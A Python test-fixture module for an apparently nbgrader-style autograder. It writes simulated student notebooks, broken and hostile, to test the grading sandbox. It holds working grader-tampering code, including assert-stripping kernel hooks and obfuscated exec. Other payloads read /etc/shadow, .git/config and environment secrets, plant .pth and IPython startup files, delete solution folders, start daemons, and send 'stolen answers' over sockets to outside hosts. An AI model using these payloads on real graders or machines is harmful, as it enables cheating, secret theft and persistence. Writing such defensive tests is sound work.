"""A crafted class: the solution, the blank exercise, and one submission per broken or hostile case.

``craft_class(module, dest, targets)`` writes them with platform-style file names and returns
{case: file name}. The tests grade it and check each outcome; ``python -m benchmarks.grading``
prints its summary. ``targets`` names the real paths an attacker would aim at (the course, the
repository, the teacher's HOME, the downloads), so each attack is tried with full knowledge.
"""
from __future__ import annotations

import copy
import json
from dataclasses import dataclass
from pathlib import Path

from helpers.teach.notebooks import exercise, solution

MARKER = "course-crafted-daemon"  # a process left running would carry this in its command line


@dataclass(frozen=True)
class Targets:
    """What the hostile submissions try to read, damage or reach."""

    course: Path
    repo: Path
    home: Path
    downloads: Path
    venv: Path
    port: int = 0  # a TCP port on 127.0.0.1 that the tests listen on; 0: no network attack


def _cells(nb: dict, grade_id: str) -> list[int]:
    return [i for i, c in enumerate(nb["cells"]) if c["metadata"].get("nbgrader", {}).get("grade_id") == grade_id]


def _first(nb: dict, kind: str) -> int:
    """Index of the first graded answer cell ("answer") with blanks, or the first graded test cell ("test")."""
    for i, c in enumerate(nb["cells"]):
        meta = c["metadata"].get("nbgrader", {})
        if kind == "answer" and meta.get("solution") and c["cell_type"] == "code" and "# BLANK:" in "".join(c["source"]):
            return i
        if kind == "test" and meta.get("grade") and not meta.get("solution"):
            return i
    raise ValueError(f"no {kind} cell")


def _prepend(cell: dict, code: str) -> None:
    cell["source"] = code + "\n" + "".join(cell["source"])


def _with_cell(nb: dict, code: str) -> dict:
    """A copy of ``nb`` with a learner's own code cell right after the blanks import."""
    nb = copy.deepcopy(nb)
    at = _cells(nb, "setup")[0] + 1 if _cells(nb, "setup") else 2
    nb["cells"].insert(at, {"cell_type": "code", "execution_count": None, "id": f"learner-{at}",
                            "metadata": {}, "outputs": [], "source": code})
    return nb


# --- Tampering with the kernel that runs the tests: one family each, on the untouched exercise ---------

TAMPERING = {
    "input transformer": (
        "get_ipython().input_transformers_cleanup.append(\n"
        "    lambda lines: ['pass\\n'] if any('assert' in l or '___' in l for l in lines) else lines)"),
    "AST transformer": (
        "import ast\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAsserts())"),
    "replaced run_cell": (
        "_shell = get_ipython()\n"
        "_run = _shell.run_cell_async\n"
        "async def _quiet(raw_cell, *args, **kwargs):\n"
        "    return await _run('pass' if 'assert' in raw_cell or '___' in raw_cell else raw_cell, *args, **kwargs)\n"
        "_shell.run_cell_async = _quiet"),
    "replaced showtraceback and result": (
        "_shell = get_ipython()\n"
        "_shell.showtraceback = lambda *args, **kwargs: None\n"
        "def _all_good(result):\n"
        "    result.error_in_exec = result.error_before_exec = None\n"
        "_shell.events.register('post_run_cell', _all_good)"),
    "custom exception handler": (
        "get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)"),
    "tracing hook": (
        "import sys, linecache\n"
        "def _local(frame, event, arg):\n"
        "    if event == 'line' and linecache.getline(frame.f_code.co_filename, frame.f_lineno).lstrip().startswith('assert'):\n"
        "        try:\n"
        "            frame.f_lineno = frame.f_lineno + 1\n"
        "        except ValueError:\n"
        "            pass\n"
        "    return _local\n"
        "sys.settrace(lambda frame, event, arg: _local if 'ipykernel_' in frame.f_code.co_filename else None)"),
    "patched builtins": (
        "import builtins\n"
        "builtins.abs = lambda x: 0.0\n"
        "builtins.all = lambda iterable: True"),
    "obfuscated": (
        "import base64\n"
        "exec(base64.b64decode('" + __import__("base64").b64encode(
            b"get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)").decode() + "').decode())"),
}


def _library_patch(module: str) -> str:
    """A patch of a library function the hidden tests use, for ``module`` (random for 01, torch for the rest)."""
    if module.startswith(("01", "02")):
        return "import random, numpy\nrandom.gauss = lambda mu, sigma: 0.0\nnumpy.allclose = lambda *a, **k: True"
    return "import torch\ntorch.allclose = lambda *a, **k: True\ntorch.equal = lambda *a, **k: True"


# --- Attacks on the grading machine: each on a copy of the solution, which must keep full marks -----

def _snooper(t: Targets, module: str) -> str:
    reads = [t.course / "solutions" / module / f"{module}.ipynb", t.course / "gradebook.db",
             t.repo / ".git" / "config", t.repo / "solutions" / module / f"{module}.ipynb", t.home / "secret.txt",
             t.course / "submitted", t.downloads, Path("/etc/shadow")]
    return ("import os\n"
            f"for _p in {[str(p) for p in reads]!r}:\n"
            "    try:\n"
            "        _found = os.listdir(_p) if os.path.isdir(_p) else open(_p, 'rb').read(200)\n"
            "        print('FOUND', _p, _found)\n"
            "    except Exception as _e:\n"
            "        print('blocked', _p, type(_e).__name__)\n"
            "print('ENV', sorted(os.environ))\n"
            "print('SECRETS', [v for k, v in os.environ.items() if 'SECRET' in k])")


def _vandal(t: Targets, module: str) -> str:
    site = next((t.venv / "lib").glob("python3*/site-packages"), t.venv)
    writes = [(t.course / "gradebook.db", "w"), (t.repo / "helpers" / "__init__.py", "a"),
              (site / "evil.pth", "w"), (t.home / ".ipython" / "profile_default" / "startup" / "00-evil.py", "w"),
              (t.course / "planted.txt", "w"), (t.repo / "planted.txt", "w")]
    return ("import os, shutil\n"
            f"for _p, _mode in {[(str(p), m) for p, m in writes]!r}:\n"
            "    try:\n"
            "        os.makedirs(os.path.dirname(_p), exist_ok=True)\n"
            "        open(_p, _mode).write('import os  # planted by a submission\\n')\n"
            "        print('WROTE', _p)\n"
            "    except Exception as _e:\n"
            "        print('blocked', _p, type(_e).__name__)\n"
            f"for _d in {[str(t.course / 'solutions' / module), str(t.repo / 'solutions' / module)]!r}:\n"
            "    try:\n"
            "        shutil.rmtree(_d)\n"
            "        print('DELETED', _d)\n"
            "    except Exception as _e:\n"
            "        print('blocked', _d, type(_e).__name__)")


def _daemon(_: Targets, module: str) -> str:
    sleeper = f"[sys.executable, '-c', 'import time; time.sleep(600)', '{MARKER}']"
    return ("import os, subprocess, sys\n"
            f"subprocess.Popen({sleeper}, start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execv(sys.executable, {sleeper})\n"
            "    os._exit(0)\n"
            "print('daemons started')")


def _network(t: Targets, module: str) -> str:
    return ("import socket\n"
            f"for _host, _port in [('127.0.0.1', {t.port}), ('1.1.1.1', 53), ('pypi.org', 443)]:\n"
            "    try:\n"
            "        socket.create_connection((_host, _port), timeout=3).sendall(b'stolen answers')\n"
            "        print('CONNECTED', _host, _port)\n"
            "    except Exception as _e:\n"
            "        print('blocked', _host, _port, type(_e).__name__)")


SANDBOX_ATTACKS = {
    "reads private files": ("snooper_1101", _snooper),
    "writes outside its folder": ("vandal_1102", _vandal),
    "leaves processes running": ("daemon_1103", _daemon),
    "uses the network": ("netcat_1104", _network),
    "runs out of memory": ("hog_1105", lambda t, m: "import numpy\n_big = numpy.ones(6 * 2**30 // 8)"),
    "floods the output": ("flood_1106", lambda t, m: "for _ in range(40):\n    print('x' * 2**20)"),
}


def _classic_cases(module: str, sol: dict, ex: dict, name: str) -> dict[str, tuple[str, object]]:
    """The broken and hostile cases of a platform download (restored cells, loops, crashes, names)."""
    cases: dict[str, tuple[str, object]] = {
        "solution": (f"Ada Lovelace_1001_assignsubmission_file_{name}", sol),
        "blank exercise": (f"Blank Student_1002_assignsubmission_file_{name}", ex),
    }
    edited = copy.deepcopy(sol)
    edited["cells"][_first(edited, "test")]["source"] = "pass  # the test is gone"
    cases["edited test cell"] = (f"editor_1003_{name}", edited)
    deleted = copy.deepcopy(sol)
    del deleted["cells"][_first(deleted, "test")]
    cases["deleted test cell"] = (f"deleter_1004_{name}", deleted)
    retyped = copy.deepcopy(sol)
    cell = retyped["cells"][_first(retyped, "test")]
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None), cell.pop("execution_count", None)
    cases["changed cell type"] = (f"retyper_1005_{name}", retyped)
    duplicated = copy.deepcopy(sol)
    i = _first(duplicated, "answer")
    duplicated["cells"].insert(i + 1, copy.deepcopy(duplicated["cells"][i]))
    cases["duplicated graded cell"] = (f"duplicator_1006_{name}", duplicated)
    looping = copy.deepcopy(sol)
    _prepend(looping["cells"][_first(looping, "answer")], "while True:\n    pass")
    cases["infinite loop"] = (f"looper_1007_{name}", looping)
    crashing = copy.deepcopy(sol)
    _prepend(crashing["cells"][_first(crashing, "answer")], "import os\nos._exit(1)")
    cases["kernel crash"] = (f"crasher_1008_{name}", crashing)
    cases["invalid JSON"] = (f"broken_1009_{name}", "{\"cells\": [ this is not json")
    cases["renamed (Copy of, in a student folder)"] = (f"grace_1010/Copy of {name}", sol)
    cases["renamed (no module in the name)"] = ("s1011_my_homework.ipynb", sol)
    cases["stderr noise"] = (f"chatty_1012_{name}", _with_cell(sol, (
        "import sys, threading, time\n"
        "def _chatter():\n    for _ in range(400):\n        print('debug noise', file=sys.stderr); time.sleep(0.02)\n"
        "threading.Thread(target=_chatter, daemon=True).start()")))
    partly_blank = copy.deepcopy(ex)
    gid = sol["cells"][_first(sol, "answer")]["metadata"]["nbgrader"]["grade_id"]
    for c in partly_blank["cells"]:  # fill every blank cell but the first with the solution's code
        meta = c["metadata"].get("nbgrader", {})
        if meta.get("solution") and meta.get("grade_id") != gid:
            c["source"] = sol["cells"][_cells(sol, meta["grade_id"])[0]]["source"]
    cases["unfilled blanks"] = (f"forgetful_1013_{name}", partly_blank)
    cheat = copy.deepcopy(sol)
    for c in cheat["cells"]:  # answers that fool the visible tests only
        if c["metadata"].get("nbgrader", {}).get("grade_id") == "knowledge_check":
            questions = [line.split("=")[0].strip() for line in "".join(c["source"]).splitlines() if "=" in line]
            c["source"] = ("class AlwaysRight(str):\n    __eq__ = lambda self, other: True\n    __hash__ = str.__hash__\n"
                           + "\n".join(f"{q} = AlwaysRight('z')" for q in questions))
    cases["redefined equality"] = (f"cheater_1014_{name}", cheat)
    return cases


def _identity_cases(sol: dict, name: str) -> dict[str, tuple[str, object]]:
    """Names in other scripts, noise words inside names, and one student's resubmission."""
    return {
        "name in Cyrillic": (f"Мария Иванова_2001_assignsubmission_file_{name}", sol),
        "name in Chinese": (f"张伟_2002_assignsubmission_file_{name}", sol),
        "noise word inside a name": (f"Inflated Plateau_2003_assignsubmission_file_{name}", sol),
        "resubmission (older)": (f"Jo March_2004_assignsubmission_file_{name}", sol),
        "resubmission (newer)": (f"Jo March_2004_assignsubmission_file_{name.replace('.ipynb', ' (1).ipynb')}", sol),
    }


def craft_class(module: str, dest: Path, targets: Targets | None = None) -> dict[str, str]:
    """Write one submission per case into ``dest``; return {case: file name relative to dest}."""
    sol = json.loads(solution(module).read_text(encoding="utf-8"))
    ex = json.loads(exercise(module).read_text(encoding="utf-8"))
    name = f"{module}.ipynb"
    cases = _classic_cases(module, sol, ex, name)
    cases.update(_identity_cases(sol, name))
    for k, (case, code) in enumerate({**TAMPERING, "patched library function": _library_patch(module)}.items()):
        cases[f"tampering: {case}"] = (f"tamperer_{1201 + k}_{name}", _with_cell(ex, code))
    cases["honest helper code"] = (f"honest_1301_{name}", _with_cell(sol, (
        "import math, time\nfrom tqdm.auto import tqdm\n"
        "for _ in tqdm(range(3), disable=True):\n    time.sleep(0.01)\n"
        "print('my own check:', math.sqrt(2))")))
    if targets is not None:
        for case, (student, attack) in SANDBOX_ATTACKS.items():
            cases[f"sandbox: {case}"] = (f"{student}_{name}", _with_cell(sol, attack(targets, module)))
    for filename, nb in cases.values():
        path = dest / filename
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(nb if isinstance(nb, str) else json.dumps(nb, indent=1, ensure_ascii=False), encoding="utf-8")
    _age_older_resubmission(dest, cases)
    return {case: filename for case, (filename, _) in cases.items()}


def _age_older_resubmission(dest: Path, cases: dict[str, tuple[str, object]]) -> None:
    import os

    older = dest / cases["resubmission (older)"][0]
    newer = dest / cases["resubmission (newer)"][0]
    stat = newer.stat()
    os.utime(older, (stat.st_atime - 60, stat.st_mtime - 60))
